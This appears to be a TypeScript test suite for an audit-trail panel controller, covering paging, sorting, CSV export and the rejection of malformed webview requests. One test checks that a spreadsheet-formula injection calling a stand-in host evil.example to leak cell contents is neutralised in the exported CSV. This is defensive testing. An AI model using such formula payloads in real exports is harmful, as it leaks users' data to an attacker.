// The audit-trail panel's logic (AuditController) in bare Node against the simulator over real
// sockets: every request the webview can send, Frame's paging, sorting over what is loaded, the
// raw entry, the CSV export, and requests a hostile webview could send.
import * as assert from 'node:assert/strict';
import { FrameAdminClient } from '../../../src/core/api';
import { HttpTransport } from '../../../src/core/http/transport';
import { AuditController } from '../../../src/audit/auditController';
import { rpcFailure } from '../../support/failsWith';
import { AUDIT_ENTRIES, DEMO_CREDENTIALS, startSimulator, type Simulator } from '../../simulator';

describe('audit-trail controller against the simulator', function () {
  this.timeout(30_000);
  let sim: Simulator;
  let transport: HttpTransport;
  let shown: { name: string; text: string; extension: string }[];

  const make = (
    kind: 'customer' | 'organization' = 'customer',
    maxEntries?: number,
    names?: () => Promise<ReadonlyMap<string, string>>,
  ) => {
    const t = sim.data.tenant;
    const scope =
      kind === 'customer'
        ? { kind, id: t.customer.id, name: t.customer.name }
        : { kind, id: t.organizations[0]!.id, name: t.organizations[0]!.name };
    const admin = new FrameAdminClient({ baseUrl: sim.adminApiBase, credentials: { scheme: 'frame', ...DEMO_CREDENTIALS }, transport });
    return new AuditController({
      connection: {
        id: 'c1',
        name: 'Sim Admin',
        baseUrl: sim.adminApiBase,
        apiKind: 'admin',
        clientId: DEMO_CREDENTIALS.clientId,
        scheme: 'frame',
      },
      scope,
      admin: async () => admin,
      editor: { show: async (name, text, extension) => void shown.push({ name, text, extension }) },
      log: () => undefined,
      maxEntries,
      names,
    });
  };

  before(async () => {
    sim = await startSimulator();
    transport = new HttpTransport({ retry: { maxRetries: 0 } });
  });
  after(async () => {
    await transport.close();
    await sim.close();
  });
  beforeEach(() => {
    sim.reset();
    shown = [];
  });

  it('loads the first page as Frame pages it, with the columns found in it', async () => {
    const c = make();
    const init = await c.handlers.init(null);
    assert.equal(init.panel.scope.kind, 'customer');
    const r = await c.handlers.load({ search: '', kind: '' });
    assert.equal(r.loaded, 100);
    assert.equal(r.hasMore, true);
    assert.deepEqual(
      r.columns.slice(0, 5).map((x) => x.title),
      ['Time', 'User', 'Kind', 'Description', 'Email'],
    );
    assert.match(sim.requests.at(-1)!.path, /\/v1\/customers\/[^/]+\/audit-trails\?offset=0&limit=100$/);
  });

  it('pages on with "more" until Frame has no more', async () => {
    const c = make();
    let r = await c.handlers.load({ search: '', kind: '' });
    while (r.hasMore) r = await c.handlers.more(null);
    assert.equal(r.loaded, AUDIT_ENTRIES);
    assert.ok(sim.requests.some((x) => x.path.includes('offset=600&limit=100')));
    assert.equal((await c.handlers.more(null)).loaded, AUDIT_ENTRIES, 'nothing more asked for');
  });

  it('stops at the cap, and says so', async () => {
    const c = make('customer', 150);
    await c.handlers.load({ search: '', kind: '' });
    const r = await c.handlers.more(null);
    assert.equal(r.loaded, 150);
    assert.equal(r.capped, true);
    assert.equal(r.hasMore, false);
  });

  it('passes search and kind to Frame; an organization has its own trail', async () => {
    const c = make('organization');
    const r = await c.handlers.load({ search: ' okta ', kind: 'launchpad' });
    assert.deepEqual(r.query, { search: 'okta', kind: 'launchpad' });
    const q = new URL(sim.requests.at(-1)!.path, 'http://x');
    assert.match(q.pathname, /^\/v1\/organizations\/[^/]+\/audit-trails$/);
    assert.equal(q.searchParams.get('search'), 'okta');
    assert.equal(q.searchParams.get('kind'), 'launchpad');
    const page = await c.handlers.rows({ offset: 0, limit: 1000, sort: null });
    const kindCol = r.columns.findIndex((x) => x.title === 'Kind');
    assert.ok(page.rows.length > 0 && page.rows.every((row) => row.cells[kindCol]!.startsWith('launchpad')));
  });

  it('serves rows as text, newest first, or sorted by any column over what is loaded', async () => {
    const c = make();
    const r = await c.handlers.load({ search: '', kind: '' });
    const time = r.columns.find((x) => x.time)!;
    const newest = await c.handlers.rows({ offset: 0, limit: 100, sort: { key: time.key, descending: true } });
    assert.equal(newest.total, 100);
    const times = newest.rows.map((row) => row.cells[0]!);
    assert.deepEqual(times, [...times].sort().reverse());
    assert.match(times[0]!, /UTC$/);
    const byUser = await c.handlers.rows({ offset: 0, limit: 100, sort: { key: 'user_full_name', descending: false } });
    const users = byUser.rows.map((row) => row.cells[1]!);
    assert.deepEqual(
      users,
      [...users].sort((a, b) => a.localeCompare(b)),
    );
    const markup = newest.rows.find((row) => row.cells.some((cell) => cell.includes('<script>')));
    assert.ok(markup, 'markup arrives as plain text for the webview to render as text');
  });

  it('gives an entry as received, opens it in a tab, and exports formula-safe CSV', async () => {
    const c = make();
    await c.handlers.load({ search: '', kind: '' });
    const [first] = (await c.handlers.rows({ offset: 0, limit: 1, sort: null })).rows;
    const { json } = await c.handlers.entry({ n: first!.n });
    assert.deepEqual(JSON.parse(json), sim.data.tenant.auditTrail()[first!.n]);
    await c.handlers.openEntry({ n: first!.n });
    assert.equal(shown[0]!.extension, 'json');
    const exported = await c.handlers.exportCsv(null);
    assert.equal(exported.rows, 100);
    const csv = shown[1]!;
    assert.equal(csv.extension, 'csv');
    assert.match(csv.text, /^Time,User,Kind,Description,Email,Identity provider/);
    assert.ok(csv.text.includes(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""click"")"`), 'the formula is neutralised');
    assert.ok(!/\r\n=/.test(csv.text) && !/,=/.test(csv.text), 'no cell starts with =');
  });

  it('turns Frame errors into envelopes the webview shows, and refuses hostile requests', async () => {
    const c = make();
    sim.inject({ kind: 'status', status: 403 }, { path: /audit-trails/ });
    const e = await rpcFailure(c.handlers.load({ search: '', kind: '' }));
    assert.equal(e.kind, 'forbidden');
    assert.match(e.message, /HTTP 403/);
    await c.handlers.load({ search: '', kind: '' });
    for (const [method, params] of [
      ['load', { search: 'x'.repeat(201), kind: '' }],
      ['load', { search: 1, kind: '' }],
      ['load', null],
      ['rows', { offset: -1, limit: 10, sort: null }],
      ['rows', { offset: 0, limit: 10, sort: { key: 'password', descending: true } }],
      ['entry', { n: 100 }],
      ['entry', { n: '0' }],
      ['openEntry', { n: -1 }],
      ['saveState', { blob: 'x'.repeat(20_000) }],
    ] as const) {
      const err = await rpcFailure((c.handlers[method] as (p: unknown) => Promise<unknown>)(params));
      assert.equal(err.kind, 'invalid-request', `${method} ${JSON.stringify(params).slice(0, 60)}`);
    }
  });

  it('shows the names the tenant tree knows for ids (the id in the tooltip), and ids it does not know as ids', async () => {
    const t = sim.data.tenant;
    // What the directory knows: the organizations and every account but one that has entries.
    const left = t.auditTrail().find((e) => e.account_id)!.account_id!;
    const known = new Map<string, string>([
      ...t.organizations.map((o): [string, string] => [o.id, o.name]),
      ...t.accounts.filter((a) => a.id !== left).map((a): [string, string] => [a.id, a.name]),
    ]);
    let reads = 0;
    const c = make('customer', undefined, async () => {
      reads++;
      return known;
    });
    let r = await c.handlers.load({ search: '', kind: '' });
    while (r.hasMore) r = await c.handlers.more(null);
    const accountCol = r.columns.findIndex((x) => x.key === 'account_id');
    const orgCol = r.columns.findIndex((x) => x.key === 'organization_id');
    assert.ok(accountCol >= 0 && orgCol >= 0, 'the simulator has account and organization id columns');
    assert.equal(r.columns[accountCol]!.title, 'Account');
    assert.equal(r.columns[orgCol]!.title, 'Organization');
    let page = await c.handlers.rows({ offset: 0, limit: 100, sort: null });
    while (page.rows.length < page.total) page = await c.handlers.rows({ offset: 0, limit: page.total, sort: null });
    let named = 0;
    let unnamed = 0;
    for (const row of page.rows) {
      const id = String((await c.handlers.entry({ n: row.n })).json.match(/"account_id": (null|"([^"]*)")/)?.[2] ?? '');
      if (!id) continue;
      const name = known.get(id);
      if (name) {
        named++;
        assert.equal(row.cells[accountCol], name);
        assert.equal(row.tips?.[accountCol], `Account ID: ${id}`);
      } else {
        unnamed++;
        assert.equal(row.cells[accountCol], id);
        assert.equal(row.tips?.[accountCol] ?? null, null);
      }
    }
    assert.ok(named > 0, 'some ids named');
    assert.ok(unnamed > 0, 'an id the tree does not know stays an id');
    assert.equal(reads, 1, 'names read once');
    // Without a source of names, ids stay ids and titles unchanged.
    const plain = make();
    const p = await plain.handlers.load({ search: '', kind: '' });
    assert.equal(p.columns.find((x) => x.key === 'account_id')?.title, 'Account ID');
    const rows = await plain.handlers.rows({ offset: 0, limit: 50, sort: null });
    assert.ok(rows.rows.every((x) => x.tips === undefined));
  });
});
